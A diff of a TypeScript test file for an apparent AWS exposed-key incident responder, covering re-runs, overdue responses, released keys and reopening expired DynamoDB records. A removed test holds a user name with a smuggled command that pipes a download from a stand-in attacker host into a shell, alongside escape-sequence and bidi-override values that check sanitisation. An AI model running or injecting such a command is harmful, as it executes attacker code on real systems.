@@ -4,6 +4,7 @@ import {
   GetAccessKeyLastUsedCommand,
   IAMClient,
   ListAccessKeysCommand,
+  ListUserTagsCommand,
   NoSuchEntityException,
   PutUserPolicyCommand,
   TagUserCommand,
@@ -48,6 +49,23 @@ function item(firstEventId: string) {
     eventIds: { SS: [firstEventId, 'event-2'] },
     sources: { SS: ['trusted-advisor', 'health'] },
   };
+}
+
+/** The record of an incident whose first response ended with `outcome`. */
+function responded(outcome: string, contained: boolean) {
+  return {
+    ...item('ta-event'),
+    outcome: { S: outcome },
+    contained: { BOOL: contained },
+    respondedAt: { S: '2026-11-26T22:00:09.000Z' },
+  };
+}
+
+/** IAM shows the key active, alice's, with nothing recorded of it on her. */
+function activeKey(): void {
+  iamMock.on(GetAccessKeyLastUsedCommand).resolves({ UserName: 'alice' });
+  iamMock.on(ListAccessKeysCommand).resolves({ AccessKeyMetadata: [{ AccessKeyId: KEY, Status: 'Active' }] });
+  iamMock.on(ListUserTagsCommand).resolves({ Tags: [] });
 }
 
 function expectNoMutation(): void {
@@ -150,55 +168,136 @@ describe('receiveSignal', () => {
     expect(error).not.toMatch(/nothing was changed/);
   });
 
-  it('says the first response is overdue when it has recorded nothing for longer than a response takes', async () => {
+  it('runs the response again when the first has recorded nothing for longer than a response takes and the key is active', async () => {
     dbMock.on(UpdateItemCommand).resolves({ Attributes: item('ta-event') });
-    iamMock.on(GetAccessKeyLastUsedCommand).resolves({ UserName: 'alice' });
-    iamMock.on(ListAccessKeysCommand).resolves({ AccessKeyMetadata: [{ AccessKeyId: KEY, Status: 'Active' }] });
+    activeKey();
     const at = (time: string) => ({ ...deps(), now: () => new Date(time) });
     const signal = { kind: 'key', incident: incidentFor(KEY, 'alice') } as const;
 
     const soon = await receiveSignal(at('2026-11-26T22:10:00.000Z'), signal);
     const late = await receiveSignal(at('2026-11-26T22:16:00.000Z'), signal);
 
+    expect(soon).toMatchObject({ role: 'joined', keyNow: { status: 'active' } });
     expect(soon).not.toHaveProperty('overdue');
-    expect(late).toMatchObject({ role: 'joined', overdue: true });
+    expect(late).toEqual({ role: 'first', record: expect.objectContaining({ firstEventId: 'ta-event' }), again: true });
+    expectNoMutation();
   });
 
-  it("reads the record's texts inert and cut, and leaves out a user name IAM could not have", async () => {
-    dbMock.on(UpdateItemCommand).resolves({
-      Attributes: {
-        ...item('ta-event'),
-        firstSource: { S: 'trusted-advisor\u001b[2J' },
-        openedAt: { S: '2026-11-26\nKey now        DELETED' },
-        sources: { SS: ['health\r', 'trusted-advisor'] },
-        reportedUserName: { S: 'alice; curl evil.example | sh' },
-        outcome: { S: 'deleted\u202e' },
-        contained: { BOOL: true },
-        respondedAt: { S: `2026-11-26T22:00:09.000Z${'x'.repeat(500)}` },
-        userName: { S: 'bob\n' },
-      },
-    });
+  it('says the first response is overdue, and joins, when IAM cannot show the key', async () => {
+    dbMock.on(UpdateItemCommand).resolves({ Attributes: item('ta-event') });
+    iamMock.on(GetAccessKeyLastUsedCommand).rejects(Object.assign(new Error('Rate exceeded'), { name: 'Throttling' }));
+
+    const receipt = await receiveSignal(
+      { ...deps(), now: () => new Date('2026-11-26T22:16:00.000Z') },
+      { kind: 'key', incident: incidentFor(KEY, 'alice') },
+    );
+
+    expect(receipt).toMatchObject({ role: 'joined', keyNow: { status: 'unknown' }, overdue: true });
+  });
+
+  it.each([
+    ['no time', undefined],
+    ['a time that cannot be read', 'soon'],
+    ['a time in the future', '2099-01-01T00:00:00.000Z'],
+    ['a time not as exposed-keys writes it', '2026-11-26T22:09:00Z\n'],
+  ])('takes no response as under way when the record gives %s for its opening', async (_, openedAt) => {
+    const { openedAt: _written, ...rest } = item('ta-event');
+    dbMock
+      .on(UpdateItemCommand)
+      .resolves({ Attributes: { ...rest, ...(openedAt === undefined ? {} : { openedAt: { S: openedAt } }) } });
+    activeKey();
+    iamMock.on(GetAccessKeyLastUsedCommand).rejects(Object.assign(new Error('Rate exceeded'), { name: 'Throttling' }));
+    const signal = { kind: 'key', incident: incidentFor(KEY, 'alice') } as const;
+    const at = { ...deps(), now: () => new Date('2026-11-26T22:10:00.000Z') };
+
+    const unknown = await receiveSignal(at, signal);
+    iamMock.on(GetAccessKeyLastUsedCommand).resolves({ UserName: 'alice' });
+    const active = await receiveSignal(at, signal);
+
+    expect(unknown).toMatchObject({ role: 'joined', overdue: true });
+    expect(active).toMatchObject({ role: 'first', again: true });
+  });
+
+  it.each(['containment-failed', 'owner-mismatch', 'not-found', 'outside-organization'])(
+    'runs the response again for a later report of a key IAM shows active, after a first response that ended %s',
+    async (outcome) => {
+      dbMock.on(UpdateItemCommand).resolves({ Attributes: responded(outcome, false) });
+      activeKey();
+
+      const receipt = await receiveSignal(deps(), { kind: 'key', incident: incidentFor(KEY, null) });
+
+      expect(receipt).toMatchObject({ role: 'first', again: true, record: { response: { outcome } } });
+      expectNoMutation();
+    },
+  );
+
+  it('joins a key active after a response that contained it, or was notify-only, and one gone after a failure', async () => {
+    activeKey();
+    const signal = { kind: 'key', incident: incidentFor(KEY, 'alice') } as const;
+
+    dbMock.on(UpdateItemCommand).resolves({ Attributes: responded('deactivated', true) });
+    const reactivated = await receiveSignal(deps(), signal);
+    dbMock.on(UpdateItemCommand).resolves({ Attributes: responded('notify-only', false) });
+    const notifyOnly = await receiveSignal(deps(), signal);
     iamMock.on(GetAccessKeyLastUsedCommand).rejects(new NoSuchEntityException({ message: 'no', $metadata: {} }));
+    dbMock.on(UpdateItemCommand).resolves({ Attributes: responded('containment-failed', false) });
+    const gone = await receiveSignal(deps(), signal);
+
+    expect([reactivated.role, notifyOnly.role, gone.role]).toEqual(['joined', 'joined', 'joined']);
+  });
+
+  it('joins, and contains nothing, when a person released the key (Trusted Advisor reports it again)', async () => {
+    dbMock.on(UpdateItemCommand).resolves({ Attributes: responded('containment-failed', false) });
+    activeKey();
+    iamMock.on(ListUserTagsCommand).resolves({
+      Tags: [{ Key: `exposed-keys/contained/${KEY}`, Value: 'reactivated 2026-11-27T09:00:00.000Z' }],
+    });
 
     const receipt = await receiveSignal(deps(), { kind: 'key', incident: incidentFor(KEY, 'alice') });
 
-    const record = receipt.role === 'joined' ? receipt.record : null;
-    expect(record).toEqual({
-      accountId: '123456789012',
-      accessKeyId: KEY,
-      firstEventId: 'ta-event',
-      firstSource: 'trusted-advisor\\x1B[2J',
-      openedAt: '2026-11-26\\x0AKey now        DELETED',
-      signals: 2,
-      sources: ['health\\x0D', 'trusted-advisor'],
-      response: {
-        outcome: 'deleted\\u202E',
-        contained: true,
-        at: expect.stringMatching(/^2026-11-26T22:00:09\.…x+$/),
-        userName: null,
-      },
+    expect(receipt).toMatchObject({
+      role: 'joined',
+      keyNow: { status: 'active' },
+      released: 'reactivated 2026-11-27T09:00:00.000Z',
     });
-    expect(record?.response?.at.length).toBe(40);
+    expect(iamMock).toHaveReceivedCommandWith(ListUserTagsCommand, { UserName: 'alice' });
+    expectNoMutation();
+  });
+
+  it('runs the response again when what the user records of the key cannot be read', async () => {
+    dbMock.on(UpdateItemCommand).resolves({ Attributes: responded('containment-failed', false) });
+    activeKey();
+    iamMock.on(ListUserTagsCommand).rejects(Object.assign(new Error('denied'), { name: 'AccessDenied' }));
+
+    const receipt = await receiveSignal(deps(), { kind: 'key', incident: incidentFor(KEY, 'alice') });
+
+    expect(receipt).toMatchObject({ role: 'first', again: true });
+  });
+
+  it('makes a new incident of a record past its time that DynamoDB has not yet removed, in one conditional write', async () => {
+    const expired = Object.assign(new Error('The conditional request failed'), {
+      name: 'ConditionalCheckFailedException',
+    });
+    dbMock
+      .on(UpdateItemCommand)
+      .rejectsOnce(expired)
+      .resolves({ Attributes: { ...item('event-1'), eventIds: { SS: ['event-1'] } } });
+
+    const now = () => new Date('2026-11-27T12:00:00.000Z');
+    const record = { db: new DynamoDBClient({ region: 'us-east-1' }), table: 'incidents', now };
+
+    const receipt = await receiveSignal({ ...deps(), record, now }, { kind: 'key', incident: incidentFor(KEY, null) });
+
+    expect(receipt).toMatchObject({ role: 'first', record: { firstEventId: 'event-1', signals: 1 } });
+    const [claim, reopen] = dbMock.commandCalls(UpdateItemCommand).map((call) => call.args[0].input);
+    expect(claim?.ConditionExpression).toBe('attribute_not_exists(expiresAt) OR expiresAt > :epoch');
+    expect(claim?.ExpressionAttributeValues?.[':epoch']).toEqual({
+      N: String(Date.parse('2026-11-27T12:00:00.000Z') / 1000),
+    });
+    expect(reopen?.ConditionExpression).toBe('expiresAt <= :epoch');
+    expect(reopen?.UpdateExpression).toMatch(
+      /SET firstEventId = :event, .* REMOVE outcome, contained, respondedAt, userName/,
+    );
   });
 
   it('is first without a record (respond, or a stack without one)', async () => {
